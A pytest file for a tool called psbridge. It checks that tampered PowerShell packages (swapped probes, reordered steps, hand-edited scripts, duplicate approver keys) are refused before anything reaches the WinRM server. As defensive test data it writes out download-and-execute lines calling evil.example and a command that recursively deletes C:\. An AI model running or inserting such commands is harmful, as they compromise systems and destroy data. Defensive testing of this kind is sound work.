"""The board's promise: the bytes approved are exactly the bytes sent, in the approved order.

Each test replays an attack a reviewer made against the old code with write access to
the package folder. The swaps are driven deterministically from the WinRM password
prompt (the moment psbridge waits for the operator), which is where the old code had
already read some files and had not yet judged others.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from psbridge.remote import inputs as remote
from psbridge.cli import main
from psbridge.files import sha256_hex

from support.lab import O365_USER, PFX_PASSWORD, USER, WINRM_PASSWORD
from support.winrm_peer import Engine, WinRMPeer
from support.winrm_peer.package import make_package


@pytest.fixture
def approved(tmp_path: Path, keys: dict[str, Path]) -> Path:
    """A package for the loopback server, approved by Jane (trusted)."""
    pkg = make_package(tmp_path / "output", server="127.0.0.1")
    assert main(["approve", str(pkg), "--key", str(keys["jane"])]) == 0
    return pkg


def run_args(pkg: Path, peer: WinRMPeer, keys: dict[str, Path], *extra: str) -> list[str]:
    return ["run", str(pkg), "--port", str(peer.port), "--transport", "http", "--auth", "ntlm",
            "--username", USER, "--o365-user", O365_USER, "--require-approval",
            "--trusted-keys", str(keys["trusted"]), *extra]


def swap_at_password_prompt(monkeypatch: pytest.MonkeyPatch, swap: Callable[[], None]) -> list[str]:
    """Run `swap` when psbridge asks for the WinRM password; return the prompts asked."""
    asked: list[str] = []

    def read_secret(env_var: str, what: str, **_: object) -> str:
        asked.append(what)
        if env_var == "PSBRIDGE_WINRM_PASSWORD":
            swap()
            return WINRM_PASSWORD
        return {"PSBRIDGE_PFX_PASSWORD": PFX_PASSWORD}.get(env_var, "O365-secret-value")

    monkeypatch.setattr(remote, "read_secret", read_secret)
    return asked


def rewrite_plan(pkg: Path, change: Callable[[dict], None]) -> bytes:
    """Edit plan.json as an attacker would (keeping its layout readable); return the original bytes."""
    original = (pkg / "plan.json").read_bytes()
    plan = json.loads(original)
    change(plan)
    (pkg / "plan.json").write_text(json.dumps(plan, indent=1), encoding="utf-8")
    return original


def test_hole1_a_probe_swapped_back_after_reading_is_never_sent(approved, http_peer, engine: Engine, keys,
                                                                 monkeypatch, capsys):
    probe = approved / "probes" / "server.ps1"
    approved_probe = probe.read_bytes()
    tampered = approved_probe + b"Invoke-WebRequest https://evil.example/x | Invoke-Expression\r\n"
    probe.write_bytes(tampered)
    approved_plan = rewrite_plan(approved, lambda plan: plan["probes"][0].update(sha256=sha256_hex(tampered)))

    def swap_back() -> None:
        probe.write_bytes(approved_probe)
        (approved / "plan.json").write_bytes(approved_plan)

    swap_at_password_prompt(monkeypatch, swap_back)
    code = main(run_args(approved, http_peer, keys, "--verify"))
    err = capsys.readouterr().err
    assert code == 2, err
    assert "probes/server.ps1" in err and "not what psbridge" in err
    assert engine.pipelines == [] and http_peer.connections == 0
    assert not any("evil.example" in s for s in engine.scripts())


def test_hole2_order_and_selection_of_steps_are_bound(approved, http_peer, engine: Engine, keys, monkeypatch, capsys):
    def drop_and_repeat(plan: dict) -> None:
        steps = plan["steps"]
        plan["steps"] = [steps[1], steps[1], *steps[2:7]]  # no 01 and 08, 02 twice

    approved_plan = rewrite_plan(approved, drop_and_repeat)
    swap_at_password_prompt(monkeypatch, lambda: (approved / "plan.json").write_bytes(approved_plan))
    code = main(run_args(approved, http_peer, keys))
    err = capsys.readouterr().err
    assert code == 2, err
    assert "steps: 7 listed; the msonline profile has 8" in err
    assert "steps[1] (step 01 prerequisites): index is 2" in err
    assert engine.pipelines == [] and http_peer.connections == 0


def test_hole3_check_takes_step_kinds_from_the_catalogue_not_plan_json(tmp_path, http_peer, engine: Engine,
                                                                       monkeypatch, capsys):
    pkg = make_package(tmp_path / "output", server="127.0.0.1")

    def disguise(plan: dict) -> None:
        for step in plan["steps"]:
            if step["id"] in ("certificate", "spn"):
                step.update(kind="session", changes_state=False)
            if step["id"] == "connect":
                step["needs"] = ["session", "certificate", "spn"]

    rewrite_plan(pkg, disguise)
    asked = swap_at_password_prompt(monkeypatch, lambda: None)
    code = main(["check", str(pkg), "--port", str(http_peer.port), "--transport", "http", "--auth", "ntlm",
                 "--username", USER, "--o365-user", O365_USER])
    err = capsys.readouterr().err
    assert code == 2, err
    assert 'steps[2] (step 02 certificate): kind is "session"; psbridge\'s catalogue says "change"' in err
    assert 'steps[4] (step 04 connect): needs is ["session", "certificate", "spn"]' in err
    assert asked == []  # no PFX password, no other secret was asked for
    assert engine.pipelines == [] and http_peer.connections == 0


@pytest.fixture
def hand_edited(tmp_path: Path) -> Path:
    """Step 02 with a download-and-run line added and its sha256 updated in plan.json: REVIEW.md is stale."""
    pkg = make_package(tmp_path / "output", server="127.0.0.1")
    step = pkg / "steps" / "02-certificate.ps1"
    data = step.read_bytes() + b"Invoke-WebRequest https://evil.example/p.ps1 | Invoke-Expression\r\n"
    step.write_bytes(data)
    rewrite_plan(pkg, lambda plan: plan["steps"][1].update(sha256=sha256_hex(data)))
    return pkg


def test_hole4_approve_refuses_a_package_psbridge_did_not_render(hand_edited, keys, capsys):
    assert main(["approve", str(hand_edited), "--key", str(keys["jane"])]) == 2
    err = capsys.readouterr().err
    assert "steps/02-certificate.ps1: not what psbridge" in err and "renders from plan.json's parameters" in err
    assert not (hand_edited / "approvals").exists()


def test_hole4_verify_and_show_name_the_hand_edited_files(hand_edited, keys, capsys):
    assert main(["verify", str(hand_edited), "--trusted-keys", str(keys["trusted"])]) == 1
    assert "steps/02-certificate.ps1: not what psbridge" in capsys.readouterr().err
    assert main(["show", str(hand_edited)]) == 0
    out = capsys.readouterr().out
    assert "2 problem(s)" in out and "! steps/02-certificate.ps1: not what psbridge" in out


def test_hole4_a_package_of_another_psbridge_version_is_refused_by_the_gates_only(tmp_path, keys, capsys):
    pkg = make_package(tmp_path / "output")
    rewrite_plan(pkg, lambda plan: plan.update(tool_version="0.0.9"))
    assert main(["approve", str(pkg), "--key", str(keys["jane"])]) == 2
    err = capsys.readouterr().err
    assert "rendered by psbridge 0.0.9" in err and "re-render and re-approve it, or install psbridge 0.0.9" in err
    assert main(["show", str(pkg)]) == 0  # show still reads it
    assert "rendered by psbridge 0.0.9" in capsys.readouterr().out


def write_key_of(tmp_path: Path, name: str, identity: str) -> tuple[Path, Path]:
    """keygen into tmp/NAME; return (private key, public key file)."""
    folder = tmp_path / name
    assert main(["keygen", "--out", str(folder), "--name", identity, "--no-passphrase"]) == 0
    return next(folder.glob("*.key")), next(folder.glob("*.pub.json"))


def test_hole5_two_trusted_keys_of_one_person_are_refused(tmp_path, capsys):
    pkg = make_package(tmp_path / "output")
    _, first = write_key_of(tmp_path, "one", "Jane Doe <jane@contoso.com>")
    _, second = write_key_of(tmp_path, "two", "Jane Doe <JANE@contoso.com>")
    trusted = tmp_path / "trusted"
    trusted.mkdir()
    (trusted / "a.pub.json").write_bytes(first.read_bytes())
    (trusted / "b.pub.json").write_bytes(second.read_bytes())
    capsys.readouterr()
    assert main(["verify", str(pkg), "--trusted-keys", str(trusted), "--min-approvals", "2"]) == 2
    err = capsys.readouterr().err
    assert "a.pub.json" in err and "b.pub.json" in err


def test_hole5_forbidding_a_key_forbids_its_person(tmp_path, capsys):
    """Jane's board key is trusted; she runs with her other key: her approval must not count."""
    pkg = make_package(tmp_path / "output")
    board_key, board_pub = write_key_of(tmp_path, "board", "Jane Doe <jane@contoso.com>")
    own_key, _ = write_key_of(tmp_path, "own", "jane doe <Jane@Contoso.com>")
    trusted = tmp_path / "trusted"
    trusted.mkdir()
    (trusted / "jane.pub.json").write_bytes(board_pub.read_bytes())
    assert main(["approve", str(pkg), "--key", str(board_key)]) == 0
    capsys.readouterr()
    assert main(["verify", str(pkg), "--trusted-keys", str(trusted), "--forbid-key", str(own_key)]) == 1
    assert "forbidden approver" in capsys.readouterr().err


def test_min_approvals_0_fails_before_any_secret_or_record(pkg, monkeypatch, capsys):
    asked = swap_at_password_prompt(monkeypatch, lambda: None)
    assert main(["run", str(pkg), "--host", "h", "--username", USER, "--min-approvals", "0"]) == 2
    assert "--min-approvals" in capsys.readouterr().err
    assert asked == [] and not (pkg / "runs").exists()


def test_the_approved_server_is_the_only_host(approved, keys, monkeypatch, capsys):
    asked = swap_at_password_prompt(monkeypatch, lambda: None)
    code = main(["run", str(approved), "--host", "crm-prod.contoso.com", "--username", USER, "--require-approval",
                 "--trusted-keys", str(keys["trusted"])])
    assert code == 2
    assert "--host crm-prod.contoso.com: the package is for crm.server = 127.0.0.1" in capsys.readouterr().err
    assert asked == [] and not (approved / "runs").exists()


def test_require_approval_refuses_a_package_that_names_no_server(pkg, keys, monkeypatch, capsys):
    assert main(["approve", str(pkg), "--key", str(keys["jane"])]) == 0
    asked = swap_at_password_prompt(monkeypatch, lambda: None)
    code = main(["run", str(pkg), "--host", "127.0.0.1", "--username", USER, "--require-approval",
                 "--trusted-keys", str(keys["trusted"])])
    assert code == 2 and "names no [crm] server" in capsys.readouterr().err
    assert asked == []


def test_check_require_approval_uses_the_same_gate(pkg, keys, monkeypatch, capsys):
    asked = swap_at_password_prompt(monkeypatch, lambda: None)
    code = main(["check", str(pkg), "--host", "127.0.0.1", "--username", USER, "--require-approval",
                 "--trusted-keys", str(keys["trusted"])])
    assert code == 1
    assert "too few approvals" in capsys.readouterr().err and asked == []


# --------------------------------------------------------------------------- without --require-approval too


def test_run_without_approval_never_sends_a_hand_edited_step(hand_edited, http_peer, engine, secrets_env, capsys):
    argv = ["run", str(hand_edited), "--yes", "--port", str(http_peer.port), "--transport", "http", "--auth", "ntlm",
            "--username", USER, "--o365-user", O365_USER]
    assert main(argv) == 2
    assert "steps/02-certificate.ps1: not what psbridge" in capsys.readouterr().err
    assert engine.pipelines == [] and http_peer.connections == 0


def test_check_without_approval_sends_psbridges_own_probes_never_edited_ones(tmp_path, http_peer, engine,
                                                                            secrets_env, capsys):
    pkg = make_package(tmp_path / "output", server="127.0.0.1")
    probe = pkg / "probes" / "server.ps1"
    data = probe.read_bytes() + b"Remove-Item -Recurse C:\\ # EVIL\r\n"
    probe.write_bytes(data)
    rewrite_plan(pkg, lambda plan: plan["probes"][0].update(sha256=sha256_hex(data)))
    code = main(["check", str(pkg), "--port", str(http_peer.port), "--transport", "http", "--auth", "ntlm",
                 "--username", USER, "--no-entra"])
    err = capsys.readouterr().err
    assert code in (0, 1, 5)
    assert "probes/server.ps1: not what psbridge" in err and "check sends the probes psbridge renders itself" in err
    sent = [s for s in engine.scripts() if s.startswith("# psbridge probe: server ")]
    assert sent and not any("EVIL" in s for s in engine.scripts())
